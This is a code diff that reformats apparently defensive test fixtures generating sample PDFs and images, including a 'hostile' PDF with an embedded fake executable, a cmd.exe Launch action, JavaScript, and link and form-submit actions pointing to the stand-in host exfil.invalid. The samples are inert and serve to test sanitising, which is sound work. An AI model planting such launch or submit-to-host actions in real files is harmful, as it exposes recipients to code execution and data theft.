@@ -4,6 +4,7 @@ PDF page marks: every page built here draws one black square whose centre is
 MARK_CENTRE (in PDF points, origin bottom-left), so a test can tell that the
 page's content survived conversion.
 """
+
 from __future__ import annotations
 
 import io
@@ -28,6 +29,7 @@ PAYLOAD = b"MZ-PAYLOAD-7f3a9c21e5d4"
 
 
 # ---------------------------------------------------------------- PDFs
+
 
 def simple_pdf(path: Path, pages: int = 1) -> Path:
     """Plain pages with the black mark, as an office program writes them."""
@@ -56,10 +58,14 @@ def hostile_pdf(path: Path) -> Path:
     )
     pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, PAYLOAD, filename="invoice.exe")
     page.AA = pikepdf.Dictionary(O=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("cmd.exe")))
-    page.Annots = pdf.make_indirect(pikepdf.Array([
-        _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("http://exfil.invalid/"))),
-        _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://exfil.invalid/"))),
-    ]))
+    page.Annots = pdf.make_indirect(
+        pikepdf.Array(
+            [
+                _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("http://exfil.invalid/"))),
+                _link(pdf, pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("http://exfil.invalid/"))),
+            ]
+        )
+    )
     _add_text_field(pdf, page)
     pdf.Root.AcroForm.XFA = pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
     _add_private_metadata(pdf)
@@ -68,9 +74,14 @@ def hostile_pdf(path: Path) -> Path:
 
 
 def _link(pdf: pikepdf.Pdf, action: pikepdf.Dictionary) -> pikepdf.Object:
-    return pdf.make_indirect(pikepdf.Dictionary(
-        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[300, 100, 400, 150], A=action,
-    ))
+    return pdf.make_indirect(
+        pikepdf.Dictionary(
+            Type=pikepdf.Name.Annot,
+            Subtype=pikepdf.Name.Link,
+            Rect=[300, 100, 400, 150],
+            A=action,
+        )
+    )
 
 
 def _add_private_metadata(pdf: pikepdf.Pdf) -> None:
@@ -95,12 +106,19 @@ def _add_text_field(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
     appearance.Type = pikepdf.Name.XObject
     appearance.Subtype = pikepdf.Name.Form
     appearance.BBox = [0, 0, 100, 100]
-    field = pdf.make_indirect(pikepdf.Dictionary(
-        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx,
-        T=pikepdf.String("surname"), V=pikepdf.String(SECRET_NAME), Rect=[50, 700, 150, 800],
-        P=page.obj, AP=pikepdf.Dictionary(N=appearance),
-        AA=pikepdf.Dictionary(K=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(JS_SOURCE))),
-    ))
+    field = pdf.make_indirect(
+        pikepdf.Dictionary(
+            Type=pikepdf.Name.Annot,
+            Subtype=pikepdf.Name.Widget,
+            FT=pikepdf.Name.Tx,
+            T=pikepdf.String("surname"),
+            V=pikepdf.String(SECRET_NAME),
+            Rect=[50, 700, 150, 800],
+            P=page.obj,
+            AP=pikepdf.Dictionary(N=appearance),
+            AA=pikepdf.Dictionary(K=pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(JS_SOURCE))),
+        )
+    )
     annots = page.obj.get("/Annots", pikepdf.Array())
     annots.append(field)
     page.Annots = annots
@@ -112,7 +130,8 @@ def encrypted_pdf(path: Path, *, user_password: str) -> Path:
     pdf = pikepdf.new()
     _add_marked_page(pdf)
     encryption = pikepdf.Encryption(
-        owner="registry-owner", user=user_password,
+        owner="registry-owner",
+        user=user_password,
         allow=pikepdf.Permissions(extract=False, modify_other=False, print_highres=False),
     )
     pdf.save(path, encryption=encryption)
@@ -241,6 +260,7 @@ def _form(pdf: pikepdf.Pdf, drawing: bytes, calls: pikepdf.Object | None = None)
 # Hand-written PDFs: the only way to control bytes pikepdf would normalise
 # (hex-escaped names) and to append an incremental update.
 
+
 def raw_pdf(objects: dict[int, bytes], *, root: int = 1) -> bytes:
     """A classic-xref PDF from numbered object bodies."""
     out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
@@ -263,7 +283,10 @@ def incremental_update(base: bytes, objects: dict[int, bytes], *, root: int = 1)
     out += b"xref\n"
     out += b"".join(b"%d 1\n%010d 00000 n \n" % (number, offset) for number, offset in sorted(offsets.items()))
     out += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
-        max(size, max(objects) + 1), root, previous_xref, xref_at,
+        max(size, max(objects) + 1),
+        root,
+        previous_xref,
+        xref_at,
     )
     return bytes(out)
 
@@ -310,6 +333,7 @@ def updated_pdf() -> bytes:
 
 # ---------------------------------------------------------------- images
 
+
 def sideways_gps_jpeg(path: Path) -> tuple[int, int]:
     """A phone photo stored sideways (EXIF orientation 6) with GPS, XMP, comment, ICC.
 
@@ -325,7 +349,11 @@ def sideways_gps_jpeg(path: Path) -> tuple[int, int]:
     gps.update({1: "N", 2: (43.0, 14.0, 30.0), 3: "E", 4: (76.0, 55.0, 12.0)})
     xmp = f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><dc:creator>{SECRET_NAME}</dc:creator></x:xmpmeta>'
     stored.save(
-        path, "JPEG", exif=exif, comment=SECRET_NAME.encode(), xmp=xmp.encode(),
+        path,
+        "JPEG",
+        exif=exif,
+        comment=SECRET_NAME.encode(),
+        xmp=xmp.encode(),
         icc_profile=ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes(),
     )
     return upright.size
@@ -333,6 +361,7 @@ def sideways_gps_jpeg(path: Path) -> tuple[int, int]:
 
 def raw_png(path: Path, width: int, height: int, *, color_type: int, bit_depth: int, rows: Iterable[bytes]) -> Path:
     """A PNG written chunk by chunk, so huge or 16-bit images cost no memory to make."""
+
     def chunk(kind: bytes, data: bytes) -> bytes:
         return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
 
